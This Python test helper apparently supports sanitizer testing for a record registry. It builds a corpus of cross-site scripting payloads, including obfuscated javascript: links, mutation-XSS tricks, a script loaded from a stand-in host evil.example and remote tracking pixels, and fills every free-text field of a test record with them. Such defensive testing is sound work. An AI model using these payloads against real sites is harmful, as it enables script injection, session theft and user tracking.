"""A corpus of XSS payloads, and a valid record that carries all of them in every text field.

Each payload, if it ever ran, would set `window.__xss`, change `document.title` to "XSS" or
open a dialog; the browser test looks for all three. Free-text fields are found from the
schema (strings with no rule but the one for text), so a new field is attacked without edits.
"""

from __future__ import annotations

import re
from collections.abc import Iterator
from typing import Any

import yaml

from intreg.records.export import integration_schema
from intreg.records.types import TEXT_PATTERN
from tests.helpers import case_text

CORPUS_ID = "xss-corpus"

PAYLOADS: dict[str, str] = {
    # Raw HTML: script, event attributes, active elements.
    "script": "<script>window.__xss=1</script>",
    "script-upper": "<SCRIPT>document.title='XSS'</SCRIPT>",
    "script-src": '<script src="https://evil.example/x.js"></script>',
    "img-onerror": '<img src=x onerror="window.__xss=1">',
    "img-remote": '<img src="https://tracker.example/pixel.gif">',
    "svg-onload": "<svg onload=alert(1)>",
    "svg-script": "<svg><script>alert(1)</script></svg>",
    "math-href": '<math><mi xlink:href="javascript:alert(1)">m</mi></math>',
    "iframe": '<iframe src="javascript:alert(1)"></iframe>',
    "iframe-srcdoc": '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    "object-embed": '<object data="javascript:alert(1)"></object><embed src="javascript:alert(1)">',
    "style": '<style>body{background:url("https://tracker.example/css")}</style>',
    "style-attr": '<p style="background:url(https://tracker.example/s)">s</p>',
    "event-attrs": '<a href="https://ok.example/" onclick="alert(1)" onmouseover="alert(1)">e</a>',
    "body-onload": "<body onload=alert(1)>",
    "details-ontoggle": "<details open ontoggle=alert(1)>d</details>",
    "form-action": '<form action="javascript:alert(1)"><button>go</button></form>',
    "meta-refresh": '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    "base-href": '<base href="https://evil.example/">',
    "a-entity-href": '<a href="&#x6a;avascript:alert(1)">a</a>',
    "noscript-mxss": '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "svg-style-mxss": "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "markdown-in-html": '<div markdown="1">[m](javascript:alert(1))</div>',
    # HTML comments that try to break out, or to hide the rest.
    "comment-breakout": "<!-- --><script>alert(1)</script><!-- -->",
    "comment-dashes": "<!--><img src=x onerror=alert(1)>-->",
    # Link targets: schemes, case, whitespace, controls, entities.
    "link-js": "[js](javascript:window.__xss=1)",
    "link-js-case": "[js](JaVaScRiPt:alert(1))",
    "link-js-tab": "[js](java\tscript:alert(1))",
    "link-js-control": "[js](\x01javascript:alert(1))",
    "link-js-space": "[js]( javascript:alert(1))",
    "link-js-angle": "[js](<javascript:alert(1)>)",
    "link-entity-colon": "[js](javascript&#58;alert(1))",
    "link-entity-hex": "[js](javascript&#x3A;alert(1))",
    "link-entity-named": "[js](javascript&colon;alert(1))",
    "link-entity-padded": "[js](java&#0000115;cript:alert(1))",
    "link-entity-tab": "[js](jav&#x09;ascript:alert(1))",
    "link-all-entities": "[js](&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;"
    "alert(1))",
    "link-data-html": "[d](data:text/html,%3Cscript%3Ealert(1)%3C/script%3E)",
    "link-vbscript": "[v](vbscript:msgbox(1))",
    "link-title-breakout": '[t](https://ok.example/ "x\\" onmouseover=\\"alert(1))',
    "link-href-breakout": '[h](https://ok.example/"onmouseover="alert(1))',
    "autolink-js": "<javascript:alert(1)>",
    "autolink-data": "<data:text/html,<script>alert(1)</script>>",
    "reference-link": "[ref][xss]\n\n[xss]: javascript:alert(1)",
    "reference-angle": '[ref2][xss2]\n\n[xss2]: <javascript:document.title="XSS"> "t"',
    # Images: script schemes, remote hosts (tracking pixels), attribute breakouts.
    "image-js": "![i](javascript:alert(1))",
    "image-remote": "![pixel](https://tracker.example/pixel.gif)",
    "image-protocol-relative": "![pixel](//tracker.example/pixel.gif)",
    "image-backslash": "![pixel](/\\tracker.example/pixel.gif)",
    "image-title-breakout": '![i](x.png "\\" onerror=\\"alert(1))',
    # Code spans and fences that try to end early.
    "code-backslash-backtick": "`a\\`<script>window.__xss=1</script>`",
    "code-double-backtick": "``x\\`` <img src=x onerror=alert(1)> ``",
    "fence-breakout": "```\n</code></pre><script>alert(1)</script>\n```",
    # Already-escaped text, attribute lists, the renderer's own placeholders.
    "entities": "&lt;script&gt;alert(1)&lt;/script&gt; &#60;script&#62;alert(1)&#60;/script&#62;",
    "attr-list": '**x**{: onclick="alert(1)" }',
    "placeholder": "\x02wzxhzdk:0\x03 <script>alert(1)</script>",
    # Last, because it leaves the rest of a field in a code block.
    "fence-unclosed": "~~~\n<script>alert(1)</script>",
}

# Addresses are not free text, but their patterns leave room for quotes and brackets.
ADDRESSES = {
    ("provider", "website"): 'https://ok.example/"><script>window.__xss=1</script>',
    ("provider", "docs_url"): "https://ok.example/?q=<img/src=x/onerror=alert(1)>",
    ("owner", "contact"): 'x"onmouseover="alert(1)"<b>@ok.example',
}


def accepted() -> list[str]:
    """The payloads a record may hold: the model refuses control characters in any text."""
    return [p for p in PAYLOADS.values() if re.search(TEXT_PATTERN, p)]


def corpus_markdown() -> str:
    """Every payload a record may hold, one after another, as one Markdown field."""
    return "\n\n".join(accepted())


def corpus_record() -> str:
    """A valid record (the "full" case) with the corpus in every free-text field."""
    data = yaml.safe_load(case_text("full"))
    data["id"] = CORPUS_ID
    schema = integration_schema()
    for path, parent, key, kind in text_fields(schema, schema, data, ""):
        parent[key] = corpus_markdown() if kind == "markdown" else " ".join(accepted())
        if path == "auth.credentials[].placeholder":
            # Only in the .env download, which refuses ' and line breaks (intreg crashes on
            # them instead of reporting the field; noted in issue 24).
            parent[key] = PAYLOADS["script"] + " " + PAYLOADS["img-onerror"]
    for (section, key), address in ADDRESSES.items():
        data[section][key] = address
    data.pop("fallback", None)  # it names a record that is not in the test registry
    return yaml.safe_dump(data, sort_keys=False, allow_unicode=False, width=10_000)


def text_fields(
    root: dict[str, Any], spec: dict[str, Any], value: Any, path: str
) -> Iterator[tuple[str, Any, Any, str]]:
    """(path, parent, key, "text" or "markdown") for every free-text value in `value`."""
    spec = _resolve(root, spec)
    for option in spec.get("anyOf", []):
        if option.get("type") != "null":
            yield from text_fields(root, option, value, path)
    if isinstance(value, dict) and spec.get("type") == "object":
        for key in list(value):
            child = spec.get("properties", {}).get(key, spec.get("additionalProperties"))
            if not isinstance(child, dict):
                continue
            name = f"{path}.{key}" if key in spec.get("properties", {}) else f"{path}.<key>"
            if _is_text(root, child):
                yield name.lstrip("."), value, key, _kind(root, child)
            else:
                yield from text_fields(root, child, value[key], name)
    elif isinstance(value, list) and spec.get("type") == "array":
        for index in range(len(value)):
            if _is_text(root, spec["items"]):
                yield f"{path}[]".lstrip("."), value, index, _kind(root, spec["items"])
            else:
                yield from text_fields(root, spec["items"], value[index], f"{path}[]")


def _is_text(root: dict[str, Any], spec: dict[str, Any]) -> bool:
    spec = _resolve(root, spec)
    options = [o for o in spec.get("anyOf", []) if o.get("type") != "null"]
    if len(options) == 1:
        spec = _resolve(root, options[0])
    free = (
        spec.get("pattern") in {None, TEXT_PATTERN} and "format" not in spec and "enum" not in spec
    )
    return spec.get("type") == "string" and free


def _kind(root: dict[str, Any], spec: dict[str, Any]) -> str:
    spec = _resolve(root, spec)
    options = [_resolve(root, o) for o in spec.get("anyOf", []) if o.get("type") != "null"]
    markdown = [o for o in [spec, *options] if o.get("contentMediaType") == "text/markdown"]
    return "markdown" if markdown else "text"


def _resolve(root: dict[str, Any], spec: dict[str, Any]) -> dict[str, Any]:
    while "$ref" in spec:
        spec = root["$defs"][spec["$ref"].rsplit("/", 1)[-1]]
    return spec
